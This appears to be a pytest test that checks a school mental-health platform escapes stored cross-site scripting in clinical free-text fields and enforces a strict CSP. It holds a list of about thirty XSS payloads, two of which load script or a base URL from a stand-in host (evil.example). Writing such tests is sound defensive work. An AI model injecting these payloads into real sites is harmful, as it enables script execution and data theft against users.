"""T15 — stored XSS through clinical free text (security.md §5 T15).

About thirty payloads (script tags, event handlers, SVG, ``javascript:`` URLs, attribute breakouts,
template syntax, full-width and mixed CJK variants) go through the services into the free-text
fields people read back — case summary, plan goals and actions, follow-up and guardian-contact
notes, flag interview reasons, referral reasons, override reasons, clinical feedback and return
advice, referral event notes, break-glass reasons, handover notes, student names — and every page
that shows them is rendered for the roles allowed to see it. Each payload must appear exactly in its
escaped form (so the test knows it was rendered, not dropped), never raw; no page contains a
``<script`` tag or an unescaped ``on…=`` handler; every response carries a CSP whose script-src
forbids inline script.
"""

from __future__ import annotations

import re
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from markupsafe import escape

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "integration"))

from cases_world import PASSWORD, build, confirmed_flag  # noqa: E402

from mh_platform.db.models import AcademicYear, OrgUnit, Student  # noqa: E402
from mh_platform.services import (  # noqa: E402
    breakglass,
    cases,
    flags,
    referrals,
    students,
    transfers,
)
from mh_platform.web.app import create_app  # noqa: E402

CSRF_RE = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')

PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=\"x\" onerror=\"window.__xss=1\">",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<body onload=window.__xss=1>",
    "<iframe src=javascript:window.__xss=1></iframe>",
    "<a href=\"javascript:window.__xss=1\">点击查看</a>",
    "\"><script>window.__xss=1</script>",
    "'><img src=x onerror=window.__xss=1>",
    "\" onmouseover=\"window.__xss=1\" x=\"",
    "' autofocus onfocus='window.__xss=1' x='",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "<details open ontoggle=window.__xss=1>",
    "<math><mtext><img src=x onerror=window.__xss=1></mtext></math>",
    "<object data=\"javascript:window.__xss=1\"></object>",
    "<embed src=javascript:window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<style>@import 'javascript:window.__xss=1';</style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.__xss=1\">",
    "{{ 7*7 }}{% raw %}<script>window.__xss=1</script>",
    "${alert(1)}<ScRiPt>window.__xss=1</sCrIpT>",
    "学生说“<script>window.__xss=1</script>”然后离开",
    "情绪低落<img/src=x/onerror=window.__xss=1>需关注",
    "＜script＞window.__xss=1＜/script＞",  # full-width brackets: harmless text unless someone NFKC-folds it
    "＜img src=x onerror=window.__xss=1＞家长电话",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",  # already-escaped text must be escaped again, not decoded
    "<!--<script>--><script>window.__xss=1</script>",
    "<base href=//evil.example/>",
]
HANDLER_RE = re.compile(r"<[^>]*\son[a-z]+\s*=", re.I)


@pytest.fixture(autouse=True)
def quick_argon2(monkeypatch):  # the web conftest's fixture, for the cases world's users
    from argon2 import PasswordHasher

    from mh_platform.services import passwords

    monkeypatch.setattr(passwords, "_HASHER", PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1))


def _reason(p: str) -> str:
    return "说明：" + p  # break-glass wants a sentence (≥ 10 characters)


@pytest.fixture
def world(ctx):
    w = build(ctx, n=3)
    now = ctx.now()
    c = w.actors["counsellor.a"]
    # a student whose name is a payload (names are shown on roster and case pages)
    with ctx.uow() as uow:
        s = uow.session
        st = students.add_student(ctx, s, name="<img src=x onerror=window.__xss=1>王", sex="F", birth_year=2012,
                                  class_unit=s.get(OrgUnit, w.class_a.id), year=s.get(AcademicYear, w.year_id),
                                  now=now)
        uow.commit()
    # case 1: the summary and one plan line / follow-up / contact per payload
    flag = confirmed_flag(ctx, st.id, "red")
    cid = cases.open_case(ctx, c, flag, summary=PAYLOADS[0])
    for i, p in enumerate(PAYLOADS):
        cases.add_plan_item(ctx, c, cid, goal=p, action=PAYLOADS[-1 - i], review_at=now + timedelta(days=7 + i))
        fu = cases.schedule_follow_up(ctx, c, cid, due_at=now + timedelta(days=1))
        cases.complete_follow_up(ctx, c, fu, note=p)
        cases.log_guardian_contact(ctx, c, cid, method="phone", note=p)
    breakglass.open_break_glass(ctx, w.actors["county.a"], cid, reason=_reason(PAYLOADS[2]))
    # referrals: one per payload, drafted with the payload as reason and cancelled with the payload as note
    drafts = []
    for p in PAYLOADS:
        rid = referrals.create_referral(ctx, c, cid, institution_id=w.inst1, reason=p)
        referrals.transition(ctx, c, rid, "cancel", reason=p)
        drafts.append(rid)
    # one live referral with an override reason and clinical feedback the institution writes
    rid = referrals.create_referral(ctx, c, cid, institution_id=w.inst1, reason=PAYLOADS[3])
    referrals.transition(ctx, c, rid, "submit", consent="override", reason=PAYLOADS[4])
    one = w.actors["clinician.one"]
    referrals.transition(ctx, one, rid, "accept", reason=PAYLOADS[5])
    referrals.transition(ctx, one, rid, "schedule", appointment_at=now + timedelta(hours=2))
    ctx.clock.advance(hours=3)
    referrals.transition(ctx, one, rid, "record_attended")
    referrals.transition(ctx, one, rid, "record_feedback", diagnosis_category="anxiety",
                         recommendations=PAYLOADS[6], return_advice=PAYLOADS[7])
    # a flag whose interview reason is a payload
    fl = confirmed_flag(ctx, w.students[0], "orange", status="raised")
    flags.acknowledge(ctx, c, fl)
    flags.assess(ctx, c, fl, "confirm", reason=PAYLOADS[8])
    # a handover note
    cid2 = cases.open_case(ctx, c, confirmed_flag(ctx, w.students[1]), summary=PAYLOADS[9])
    with ctx.uow() as uow:
        s = uow.session
        students.enrol(s, s.get(Student, w.students[1]), s.get(OrgUnit, w.class_a2.id),
                       s.get(AcademicYear, w.year_id), ctx.now())
        uow.commit()
    tid = transfers.request_transfer(ctx, c, cid2, handover_note=PAYLOADS[10])
    w.x = {"case": cid, "drafts": drafts, "referral": rid, "flag": fl, "transfer": tid}  # type: ignore[attr-defined]
    return w


def _login(client, username):
    client.get("/logout")
    client.delete_cookie("mhp_session")
    tok = CSRF_RE.search(client.get("/login").get_data(as_text=True)).group(1)
    r = client.post("/login", data={"username": username, "password": PASSWORD, "csrf_token": tok})
    assert r.status_code in (302, 303)


def _page(client, path: str) -> str:
    r = client.get(path)
    assert r.status_code == 200, (path, r.status_code)
    csp = r.headers["Content-Security-Policy"]
    script_src = re.search(r"script-src ([^;]+)", csp).group(1)
    assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src and "'self'" in script_src
    assert "default-src 'self'" in csp and "object-src 'none'" in csp and "base-uri 'none'" in csp
    html = r.get_data(as_text=True)
    assert "<script" not in html.lower(), path
    assert not HANDLER_RE.search(html), (path, HANDLER_RE.search(html).group(0))
    assert "javascript:" not in re.sub(r"&[a-z#0-9]+;", "", " ".join(re.findall(r"<[^>]+>", html))).lower()
    return html


def _shown_escaped(html: str, payloads: list[str], where: str) -> None:
    for p in payloads:
        assert str(escape(p)) in html, f"{where}: payload not rendered (escaped) {p!r}"
        if any(ch in p for ch in "<>\"'"):  # (the pre-escaped payload's raw form is other payloads' output)
            assert p not in html, f"{where}: payload rendered raw {p!r}"


def test_free_text_payloads_render_escaped_for_every_reader(ctx, world):
    x = world.x
    client = create_app(ctx=ctx, extra_config={"TESTING": True, "MHP_PROPAGATE_ERRORS": True}).test_client()

    _login(client, "counsellor.a")
    html = _page(client, f"/cases/{x['case']}")
    _shown_escaped(html, PAYLOADS, "case page (counsellor)")  # plan, follow-ups, contacts, summary
    _shown_escaped(html, ["<img src=x onerror=window.__xss=1>王"], "case page student name")
    for rid, p in zip(x["drafts"], PAYLOADS, strict=True):
        _shown_escaped(_page(client, f"/referrals/{rid}"), [p], "referral page (counsellor)")
    _shown_escaped(_page(client, f"/referrals/{x['referral']}"), PAYLOADS[3:8], "referral with feedback (counsellor)")
    _shown_escaped(_page(client, f"/flags/{x['flag']}?reasons=1"), [PAYLOADS[8]], "flag page reasons")
    for path in ("/", "/cases", "/referrals", "/flags", "/roster"):
        _page(client, path)

    _login(client, "clinician.one")
    _shown_escaped(_page(client, f"/referrals/{x['referral']}"), PAYLOADS[3:8], "referral page (clinician)")
    _page(client, "/referrals")

    _login(client, "county.a")  # break-glass: the full case
    _shown_escaped(_page(client, f"/cases/{x['case']}"), PAYLOADS, "case page (break-glass)")

    _login(client, "city")
    _shown_escaped(_page(client, "/break-glass/review"), [_reason(PAYLOADS[2])], "break-glass review")

    _login(client, "counsellor.a2")
    _shown_escaped(_page(client, f"/transfers/{x['transfer']}"), [PAYLOADS[10]], "handover")

    _login(client, "teacher.a")
    _shown_escaped(_page(client, "/roster"), ["<img src=x onerror=window.__xss=1>王"], "roster (head teacher)")


def test_the_api_returns_text_as_json_data_never_html(ctx, world):
    client = create_app(ctx=ctx, extra_config={"TESTING": True, "MHP_PROPAGATE_ERRORS": True}).test_client()
    r = client.post("/api/v1/auth/token", json={"username": "counsellor.a", "password": PASSWORD})
    h = {"Authorization": f"Bearer {r.get_json()['token']}"}
    r = client.get(f"/api/v1/cases/{world.x['case']}", headers=h)
    assert r.status_code == 200 and r.mimetype == "application/json"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    body = r.get_json()
    assert body["summary"] == PAYLOADS[0]  # stored and returned exactly, as data
    assert {p["goal"] for p in body["plan"]} == set(PAYLOADS)
